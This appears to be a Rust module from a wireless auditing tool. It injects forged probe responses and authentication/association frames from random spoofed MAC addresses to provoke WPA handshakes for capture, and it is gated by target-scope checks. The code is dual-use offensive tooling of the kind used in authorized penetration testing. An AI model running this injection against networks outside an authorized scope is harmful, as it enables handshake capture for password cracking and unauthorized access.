//! Aggressive-mode lures
//!
//! Two injections are used to provoke a handshake that the EAPOL extractor
//! can then pick up:
//!
//! - a forged probe response, from a fresh locally-administered AP address,
//!   answering a client that probed for an SSID
//! - an open-system authentication followed by an association request, from a
//!   fresh locally-administered client address, against an observed AP
//!
//! The receive path only samples and enqueues ([`LureDispatcher`]); a worker
//! task ([`LureWorker`]) does the transmitting so the receive path never
//! touches the radio transmit primitive or sleeps.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use pwngrid_core::{
    Attack, AttackContext, Channel, GridConfig, MacAddr, Result, TargetScope,
};
use pwngrid_frame::builder;
use rand::Rng;
use tokio::sync::{mpsc, Mutex};
use tokio::time;
use tracing::{debug, info, warn};

use crate::registry::{is_authorized, SsidBook};

/// First octet of forged access point addresses
pub const FAKE_AP_PREFIX: u8 = 0x02;

/// First octet of forged client addresses
pub const FAKE_CLIENT_PREFIX: u8 = 0x0A;

/// How often an idle worker checks its stop flag
const STOP_POLL: Duration = Duration::from_millis(100);

/// One queued injection
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Lure {
    ProbeResponse {
        client: MacAddr,
        ssid: String,
        channel: Channel,
    },
    AuthAssoc {
        ap: MacAddr,
        ssid: String,
    },
}

/// Counters kept by the dispatcher
#[derive(Debug, Default)]
pub struct LureCounters {
    pub sampled: AtomicU64,
    pub queued: AtomicU64,
    pub dropped: AtomicU64,
    pub out_of_scope: AtomicU64,
}

/// Receive-side half: samples matching frames and enqueues lures
pub struct LureDispatcher {
    tx: mpsc::Sender<Lure>,
    scope: TargetScope,
    ssids: Arc<SsidBook>,
    rate: u32,
    counters: LureCounters,
}

/// Create a connected dispatcher and worker pair
pub fn lure_channel(config: &GridConfig, ssids: Arc<SsidBook>) -> (LureDispatcher, LureWorker) {
    let (tx, rx) = mpsc::channel(config.queue_capacity.max(1));
    let dispatcher = LureDispatcher {
        tx,
        scope: config.scope.clone(),
        ssids,
        rate: config.lure_rate.max(1),
        counters: LureCounters::default(),
    };
    let worker = LureWorker {
        rx: Mutex::new(rx),
        gap: config.lure_assoc_gap,
    };
    (dispatcher, worker)
}

impl LureDispatcher {
    /// Offer a probe request seen from `client` for `ssid` on `channel`.
    ///
    /// Returns `true` if a probe response was queued.
    pub fn offer_probe_request(&self, client: MacAddr, ssid: &str, channel: Channel) -> bool {
        if ssid.is_empty() || !self.sample() {
            return false;
        }
        if !self.scope.allows_ssid(ssid) {
            self.counters.out_of_scope.fetch_add(1, Ordering::Relaxed);
            return false;
        }
        self.enqueue(Lure::ProbeResponse {
            client,
            ssid: ssid.to_string(),
            channel,
        })
    }

    /// Offer a beacon from `ap`. Returns `true` if an auth/assoc was queued.
    pub fn offer_beacon(&self, ap: MacAddr, ssid: &str) -> bool {
        if ssid.is_empty() || !self.sample() {
            return false;
        }
        if !is_authorized(&self.scope, &self.ssids, &ap) && !self.scope.allows_ssid(ssid) {
            self.counters.out_of_scope.fetch_add(1, Ordering::Relaxed);
            return false;
        }
        self.enqueue(Lure::AuthAssoc {
            ap,
            ssid: ssid.to_string(),
        })
    }

    pub fn counters(&self) -> &LureCounters {
        &self.counters
    }

    fn sample(&self) -> bool {
        let hit = rand::thread_rng().gen_ratio(1, self.rate);
        if hit {
            self.counters.sampled.fetch_add(1, Ordering::Relaxed);
        }
        hit
    }

    fn enqueue(&self, lure: Lure) -> bool {
        match self.tx.try_send(lure) {
            Ok(()) => {
                self.counters.queued.fetch_add(1, Ordering::Relaxed);
                true
            }
            Err(e) => {
                self.counters.dropped.fetch_add(1, Ordering::Relaxed);
                debug!(error = %e, "Lure queue full, dropping");
                false
            }
        }
    }
}

/// Transmitting half, run through the attack executor
pub struct LureWorker {
    rx: Mutex<mpsc::Receiver<Lure>>,
    gap: Duration,
}

impl LureWorker {
    async fn inject(&self, ctx: &AttackContext, lure: Lure) -> Result<()> {
        match lure {
            Lure::ProbeResponse {
                client,
                ssid,
                channel,
            } => {
                let ap = MacAddr::random_with_prefix(FAKE_AP_PREFIX);
                let frame = builder::probe_response(client, ap, &ssid, channel)?;
                send_on(ctx, channel, &frame)?;
                debug!(client = %client, ap = %ap, ssid = %ssid, "Probe response lure sent");
            }
            Lure::AuthAssoc { ap, ssid } => {
                let client = MacAddr::random_with_prefix(FAKE_CLIENT_PREFIX);
                let assoc = builder::association_request(ap, client, &ssid)?;
                send(ctx, &builder::authentication_request(ap, client))?;
                time::sleep(self.gap).await;
                send(ctx, &assoc)?;
                debug!(ap = %ap, client = %client, ssid = %ssid, "Auth/assoc lure sent");
            }
        }
        Ok(())
    }
}

/// Transmit on `channel`, then return to the channel the radio was on
fn send_on(ctx: &AttackContext, channel: Channel, frame: &[u8]) -> Result<()> {
    let original = ctx.radio.channel();
    if original == channel {
        return send(ctx, frame);
    }
    ctx.radio.set_channel(channel)?;
    let sent = send(ctx, frame);
    ctx.radio.set_channel(original)?;
    sent
}

fn send(ctx: &AttackContext, frame: &[u8]) -> Result<()> {
    ctx.radio.transmit_raw(frame)?;
    ctx.stats.record_sent(frame.len());
    Ok(())
}

#[async_trait]
impl Attack for LureWorker {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        info!("Lure worker started");
        let mut rx = self.rx.lock().await;
        let mut ticker = time::interval(STOP_POLL);

        loop {
            tokio::select! {
                lure = rx.recv() => {
                    let Some(lure) = lure else {
                        debug!("Lure queue closed");
                        break;
                    };
                    if let Err(e) = self.inject(&ctx, lure).await {
                        ctx.stats.increment_errors();
                        warn!(error = %e, "Lure injection failed");
                    }
                }
                _ = ticker.tick() => {
                    if !ctx.is_running() {
                        break;
                    }
                }
            }
        }

        Ok(())
    }

    fn name(&self) -> &str {
        "lure"
    }
}
